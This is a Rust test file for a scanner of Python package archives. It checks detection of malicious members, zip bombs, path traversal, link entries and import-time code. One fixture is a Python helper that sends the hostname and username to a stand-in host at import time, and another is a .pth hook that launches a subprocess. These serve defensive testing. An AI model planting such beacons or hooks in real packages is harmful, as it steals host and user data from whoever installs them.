//! The scanner over whole archives built in memory: malicious content is found with its
//! rule, severity and member; structural attacks become `block` findings.

use std::io::Cursor;
use wharf_artifact::Limits;
use wharf_core::DistKind;
use wharf_scan::{scan_archive, Severity, Verdict};
use wharf_testkit::{hostile, malicious};

fn kind(filetype: &str) -> DistKind {
    DistKind::parse(filetype).expect("fixture filetype")
}

#[test]
fn each_malicious_fixture_yields_its_rule_on_its_member() {
    for fixture in malicious::all() {
        let report = scan_archive(
            Cursor::new(&fixture.bytes),
            kind(fixture.filetype),
            &Limits::default(),
        )
        .expect("scan runs");
        let finding = report
            .findings
            .iter()
            .find(|f| f.rule == fixture.rule)
            .unwrap_or_else(|| {
                panic!(
                    "{}: no {} in {:?}",
                    fixture.label, fixture.rule, report.findings
                )
            });
        assert_eq!(
            finding.severity.as_str(),
            fixture.severity,
            "{}",
            fixture.label
        );
        assert_eq!(
            finding.file.as_deref(),
            Some(fixture.member),
            "{}",
            fixture.label
        );
        assert!(finding.evidence.as_deref().is_some_and(|e| !e.is_empty()));
        assert_eq!(report.verdict(), Verdict::Quarantine, "{}", fixture.label);
    }
}

#[test]
fn a_plain_package_passes_with_every_member_read() {
    let wheel = hostile::base_wheel().build();
    let report = scan_archive(
        Cursor::new(&wheel),
        DistKind::BdistWheel,
        &Limits::default(),
    )
    .unwrap();
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    // __init__.py, METADATA, WHEEL and RECORD.
    assert_eq!(report.files_scanned, 4);
    let sdist = hostile::base_sdist().build();
    let report = scan_archive(Cursor::new(&sdist), DistKind::Sdist, &Limits::default()).unwrap();
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    assert!(report.files_scanned >= 2);
}

#[test]
fn structural_attacks_are_block_findings_named_by_rule() {
    let cases: Vec<(&str, Vec<u8>, DistKind, &str)> = vec![
        (
            "zip bomb",
            hostile::zip_bomb_wheel(64),
            DistKind::BdistWheel,
            "archive.zip-bomb",
        ),
        (
            "../ in a wheel",
            hostile::wheel_with_path_traversal(),
            DistKind::BdistWheel,
            "archive.path-traversal",
        ),
        (
            "absolute path",
            hostile::wheel_with_absolute_path(),
            DistKind::BdistWheel,
            "archive.path-traversal",
        ),
        (
            "duplicate entry",
            hostile::wheel_with_duplicate_entry(),
            DistKind::BdistWheel,
            "archive.duplicate-entry",
        ),
        (
            "headers disagree",
            hostile::wheel_with_local_header_mismatch(),
            DistKind::BdistWheel,
            "archive.inconsistent-headers",
        ),
        (
            "RECORD mismatch",
            hostile::wheel_with_record_mismatch(),
            DistKind::BdistWheel,
            "wheel.record-mismatch",
        ),
        (
            "symlink in sdist",
            hostile::sdist_with_symlink(),
            DistKind::Sdist,
            "archive.link",
        ),
        (
            "hardlink in sdist",
            hostile::sdist_with_hardlink(),
            DistKind::Sdist,
            "archive.link",
        ),
        (
            "../ in an sdist",
            hostile::sdist_with_path_traversal(),
            DistKind::Sdist,
            "archive.path-traversal",
        ),
    ];
    for (label, bytes, kind, rule) in cases {
        let report = scan_archive(Cursor::new(&bytes), kind, &Limits::default()).unwrap();
        assert_eq!(
            report.verdict(),
            Verdict::Block,
            "{label}: {:?}",
            report.findings
        );
        let blocking: Vec<&str> = report
            .at_least(Severity::Block)
            .map(|f| f.rule.as_str())
            .collect();
        assert_eq!(blocking, [rule], "{label}");
    }
}

/// The base wheel with `files` added, scanned.
fn scan_wheel(files: &[(&str, &str)]) -> wharf_scan::Report {
    let wheel = files
        .iter()
        .fold(hostile::base_wheel(), |wheel, (path, text)| {
            wheel.file(path, *text)
        })
        .build();
    scan_archive(
        Cursor::new(&wheel),
        DistKind::BdistWheel,
        &Limits::default(),
    )
    .unwrap()
}

/// The report's finding of `rule`, which must be there.
fn finding_of(report: wharf_scan::Report, rule: &str) -> wharf_scan::Finding {
    let all = format!("{:?}", report.findings);
    report
        .findings
        .into_iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {all}"))
}

#[test]
fn a_python_file_too_large_to_parse_is_reported_with_its_size_not_a_parse_error() {
    // 17 MiB of ordinary code: more than the scanner holds of one member.
    let body = "value = 1\n".repeat(17 * 1024 * 1024 / 10);
    let report = scan_wheel(&[("demo/big.py", &body)]);
    let finding = report
        .findings
        .iter()
        .find(|f| f.rule == "code.unparsable")
        .unwrap_or_else(|| panic!("no code.unparsable in {:?}", report.findings));
    assert_eq!(finding.file.as_deref(), Some("demo/big.py"));
    assert_eq!(finding.evidence.as_deref(), Some("larger than 16 MiB"));
    assert_eq!(report.verdict(), Verdict::Pass);
}

#[test]
fn a_pth_line_is_judged_by_what_the_module_it_imports_does() {
    let scan = |module: &str| {
        let report = scan_wheel(&[
            ("zz_hook.pth", "import pthhook\n"),
            ("pthhook/__init__.py", module),
        ]);
        finding_of(report, "install.pth-import")
    };
    let active = scan("import subprocess\nsubprocess.Popen(['true'])\n");
    assert_eq!(active.severity, Severity::Quarantine);
    assert!(
        active.explanation.contains("`pthhook`"),
        "{}",
        active.explanation
    );
    let quiet = scan("import sys\nVERSION = sys.version_info\n");
    assert_eq!(quiet.severity, Severity::Warn);
}

#[test]
fn a_function_another_module_calls_at_import_is_judged_as_import_time_code() {
    // Host details sent over the network: a threat where code runs by itself, a
    // warning in a function nobody calls.
    let helper = "import socket, getpass, urllib.request\n\ndef run():\n    who = socket.gethostname() + getpass.getuser()\n    urllib.request.urlopen('https://h.invalid/c', data=who.encode())\n";
    let scan = |init: &str| {
        let report = scan_wheel(&[("demo/__init__.py", init), ("demo/helper.py", helper)]);
        finding_of(report, "code.host-beacon")
    };
    for init in [
        "from .helper import run\nrun()\n",
        "from . import helper\nhelper.run()\n",
        "import demo.helper\ndemo.helper.run()\n",
    ] {
        let found = scan(init);
        assert_eq!(found.severity, Severity::Quarantine, "{init}");
        assert_eq!(found.context.map(|c| c.as_str()), Some("import"), "{init}");
        assert!(
            found.explanation.contains("demo/__init__.py is imported"),
            "{}",
            found.explanation
        );
    }
    // Imported but never called: a function nobody is known to call.
    let quiet = scan("from .helper import run\n");
    assert_eq!(quiet.severity, Severity::Warn);
    assert_eq!(quiet.context.map(|c| c.as_str()), Some("call"));
}
